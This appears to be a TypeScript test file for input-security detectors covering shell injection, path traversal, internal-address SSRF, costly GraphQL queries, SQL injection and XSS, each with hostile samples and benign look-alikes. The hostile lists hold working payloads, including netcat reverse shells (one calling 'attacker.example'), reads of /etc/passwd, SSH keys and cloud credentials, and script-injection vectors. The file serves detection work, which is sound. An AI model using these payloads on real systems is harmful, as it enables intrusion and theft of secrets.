import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { insideAddress } from './addresses/detect.ts'
import { shellCommand } from './commands/detect.ts'
import { costlyQuery } from './graphql/detect.ts'
import { strayPath } from './paths/detect.ts'
import { sqlInjectionShape } from './sqli/detect.ts'
import { sqlTokens } from './sqli/tokenize.ts'
import { DANGEROUS, FUNCTIONS, STATEMENT_OBJECTS, WORDS } from './sqli/words.ts'
import { scriptInjection } from './xss/detect.ts'

type Detector = (text: string) => string | undefined

/** Texts as the engine holds them: a character for each byte. */
const bytes = (text: string): string => String.fromCharCode(...new TextEncoder().encode(text))

function judges(name: string, detect: Detector, hostile: readonly string[], honest: readonly string[]): void {
  test(`${name} finds what runs, reads or asks`, () => {
    for (const text of hostile) assert.notEqual(detect(bytes(text)), undefined, text)
  })
  test(`${name} lets pass what only looks like it`, () => {
    for (const text of honest) assert.equal(detect(bytes(text)), undefined, text)
  })
}

judges(
  'shellCommand',
  shellCommand,
  [
    ...[
      '; id',
      '|whoami',
      '`id`',
      '$(id)',
      '8.8.8.8; cat config.php',
      'x && ls -la',
      "c'a't /etc/passwd",
      ";w'h'o'a'm'i",
      ';cat$IFS/etc/x.php',
    ],
    ...[
      ';/???/c?t /???/p??s??',
      ';{cat,/etc/passwd}',
      '& dir c:\\',
      '& w^h^o^ami',
      '"; sleep 5 #',
      'a\nid',
      '; nc -e /bin/sh 10.1.1.1 1',
      'cat /etc/passwd',
    ],
    `${'A'.repeat(40_000)};cat /etc/passwd`,
    `;${'cat;'.repeat(600)}`,
  ],
  [
    ...[
      'cat food; dog food',
      'Run `ls` to list files',
      'name; id; type',
      '| id | name |',
      'id|name|email',
      'cd ~/docs && ls -la',
      'R&D; sales',
    ],
    ...[
      'grep -r "x" a.txt | head -5',
      'Tea & ping-pong; ID & date',
      '```sh\ncd x && make\n```',
      'one\n\nls -la\nmore text\nand more',
      'history | tail -20',
      'a & b | c',
    ],
    'Users are listed in /etc/passwd, and groups in /etc/group',
  ],
)
judges(
  'strayPath',
  strayPath,
  [
    // Of the home of whoever runs the machine.
    ...['.ssh/id_rsa', '.bashrc', '.bash_history', '.aws/credentials'].map((file) => ['', 'root', file].join('/')),
    ...[
      '../../x',
      '..%2f..%2fx',
      '%252e%252e%252fx',
      '..%c0%af..%c0%afx',
      '....//....//x',
      '..;/admin',
      'a/../../../b',
      '．．／．．／x',
      '/etc/shadow',
      'file=../../x',
    ],
    ...[
      'C:\\Windows\\win.ini',
      '/var/www/../../etc/passwd',
      '..%u2215..%u2215x',
      '~/.ssh/id_rsa',
      '/proc/self/environ',
      '%2e%2e%5c%2e%2e%5cx',
      '..%bg%qf..%bg%qf..%bg%qfx',
    ],
    `${'A'.repeat(20_000)}/../../etc/passwd`,
  ],
  [
    ...[
      'docs/../src/index.ts',
      'see ../README.md',
      '../ means parent directory',
      'https://example.com/a/../b',
      '.../page',
      'Edit /etc/hosts and save',
      'wait.../then go',
    ],
    ...['C:\\Users\\Ann\\Desktop', "import x from '../lib/x'", 'and so on...', '10..20', 'a/b/c.txt'],
  ],
)
judges(
  'insideAddress',
  insideAddress,
  [
    ...[
      'http://127.0.0.1/',
      'http://2130706433/',
      'http://0x7f.1/',
      'http://0177.0.0.1',
      'http://[::1]:80/',
      'http://[::ffff:a9fe:a9fe]/',
      'http://169.254.169.254/x',
    ],
    ...[
      '//localhost:8080/',
      'http://a@127.0.0.1/',
      'http:127.0.0.1',
      'http://①②⑦.0.0.1/',
      'http://127。0。0。1/',
      'http://10.1.2.3/',
      'http://metadata.google.internal/',
      'http://127.0.0.1.nip.io/',
      'http://425.510.425.510/',
    ],
  ],
  [
    'http://example.com/',
    'https://8.8.8.8/',
    'http://localhost:3000 is where it runs',
    '//cdn.example.com/x.js',
    'http://[2001:db8::1]/',
    'https://1.1.1.1.example.com/',
    'http://172.15.0.1/',
    'http://172.32.0.1/',
  ],
)
judges(
  'costlyQuery',
  costlyQuery,
  [
    `query { ${'a { '.repeat(13)}`,
    `{ ${Array.from({ length: 30 }, (_, i) => `x${i}: user(id: ${i}) { name }`).join(' ')} }`,
    `{ a ${'@include(if: true) '.repeat(20)} }`,
    'query { ...A } fragment A on T { ...B } fragment B on T { ...A }',
    'query { ...A } fragment A on T { a { ...A } }',
  ],
  [
    'query { user(id: 1) { name posts(first: 10) { edges { node { title } } } } }',
    'query { ...A } fragment A on T { ...B } fragment B on T { id }',
    'a sentence { with } braces',
    `{ ${Array.from({ length: 60 }, (_, i) => `field${i}`).join(' ')} }`,
    '{ search(text: "{{{{{{{{{{{{{{{{{{") { id } }',
  ],
)
judges(
  'sqlInjectionShape',
  sqlInjectionShape,
  [
    ...[
      "' or 'a'='a",
      '1 or 1=1',
      "x') or ('1'='1",
      '1 union select 1,2',
      "'; drop table t; --",
      '1/**/and/**/1=1',
      "1' and sleep(5)-- ",
      '＇ or 1=1--',
      "' or 0b1=1#",
      '$$a$$ or 1=1--',
    ],
    ...[
      '1 union values (1,2)',
      "x'; prepare s from 0x41; execute s; --",
      '1\\Nunion select 1,2',
      "' or (1,2)=(1,2)#",
      '" or ""="',
      'or sleep(5)',
      "-1' OR 3+64-64-1=0+0+0+1 -- ",
      'id,(select sleep(3))',
    ],
    ...["' || password || '", '" | type %A%\\b.ini | "', "x'||user||'y", '/a/*/*/2 union all/b'],
  ],
  [
    ...['"*very* *important*"', "'a' || b || 'c'", 'local 12 union all-hands', '/* 3 */ union all sets', '5" | 10" | 12"'],
    ...[
      "O'Brien",
      'SELECT name FROM a UNION SELECT name FROM b ORDER BY name',
      'BEGIN; UPDATE a SET b = b - 1 WHERE id = 1; COMMIT;',
      "Unexpected token '<'",
      "d'Or; 5 or 6",
    ],
    ...[
      "SELECT * FROM t WHERE a = 1 AND (b = 2 OR c = 'x')",
      'the union of two; select one',
      "it's 'a' or 'b'",
      "split('=')",
      '5\'10"',
      '1 or 2 bedrooms',
    ],
  ],
)
judges(
  'scriptInjection',
  scriptInjection,
  [
    ...[
      '<script>alert(1)</script>',
      '<svg onload=alert(1)>',
      '"><img src=x onerror=alert(1)>',
      'javascript:alert(1)',
      '<a href="jav&#x09;ascript:alert(1)">',
      '" onfocus=alert(1) x="',
      '<x onwhatever=1>',
    ],
    ...[
      '<div style="x:\\65xpression(alert(1))">',
      '<iframe src=//a.example>',
      '<meta http-equiv=refresh content=x>',
      '<svg><set attributeName=href to=javascript:alert(1)>',
      '<script',
      '<style>@import "//a.example"</style>',
    ],
  ],
  [
    ...[
      'Use the <script> tag to load JavaScript',
      'The <iframe> element',
      'JavaScript: The Good Parts (2008)',
      '<b>bold</b>',
      'a < b and c > d',
      'List<String> x',
      '<Button onPress={() => go()} />',
    ],
    ...[
      '<meta charset="utf-8">',
      '<style>p { color: red }</style>',
      '<a href="https://example.com/?onload=1">x</a>',
      '<img src="data:image/png;base64,AA==">',
      'once = on',
      'onboarding = done',
    ],
  ],
)

test('words of SQL are told from others in any case; others are plain, called or not', () => {
  for (const spelled of [(word: string) => word, (word: string) => word.toUpperCase()]) {
    for (const [word, kind] of WORDS) if (kind.length === 1) assert.equal(sqlTokens(spelled(word), 0), kind, word)
    for (const word of DANGEROUS) assert.equal(sqlTokens(`${spelled(word)}(`, 0), 'F(', word)
    for (const word of FUNCTIONS)
      if (!DANGEROUS.has(word) && !WORDS.has(word)) assert.equal(sqlTokens(`${spelled(word)}(`, 0), 'f(', word)
    assert.equal(sqlTokens(spelled('drop table'), 0)[0], 'D')
  }
  fc.assert(
    fc.property(fc.stringMatching(/^[A-Za-z_]{1,45}$/), (word) => {
      const lower = word.toLowerCase()
      fc.pre(![WORDS, DANGEROUS, FUNCTIONS, STATEMENT_OBJECTS].some((known) => known.has(lower)))
      assert.match(sqlTokens(word, 0), /^[wf]$/)
      assert.match(sqlTokens(`${word}(1)`, 0), /^(?:w|g|F)\(n\)$/)
    }),
    { numRuns: 2_000 },
  )
})

test('a command line that no separator begins is found behind no command that is known as one', () => {
  assert.equal(shellCommand('mknod p p; nc attacker.example 4 0<p'), 'command line')
  assert.equal(shellCommand('mknod the place, then tell me'), undefined)
})

test('property: no detector throws, whatever the bytes', () => {
  const hostile = fc.stringMatching(
    /^(?:[;|&`$(){}<>'"\\/.%#\n =]|or|and|select|union|cat|id|on|script|etc|http|%2e|\.\.\/){0,60}$/,
  )
  const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 200 }), hostile)
  for (const detect of [shellCommand, strayPath, insideAddress, costlyQuery, sqlInjectionShape, scriptInjection])
    fc.assert(
      fc.property(text, (value) => void detect(bytes(value))),
      { numRuns: 300 },
    )
})
